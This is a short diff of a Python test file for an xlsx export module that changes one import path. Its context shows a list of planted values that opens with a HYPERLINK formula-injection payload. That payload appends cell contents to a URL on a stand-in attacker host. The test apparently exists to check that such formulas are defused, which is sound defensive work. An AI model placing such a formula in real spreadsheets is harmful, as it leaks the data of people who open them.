@@ -7,7 +7,7 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from minsheng.core.xlsx import append_row, workbook_bytes
+from minsheng.lib.xlsx import append_row, workbook_bytes
 
 PLANTED = [
     '=HYPERLINK("http://evil.example/?"&D2&E2,"详情")',
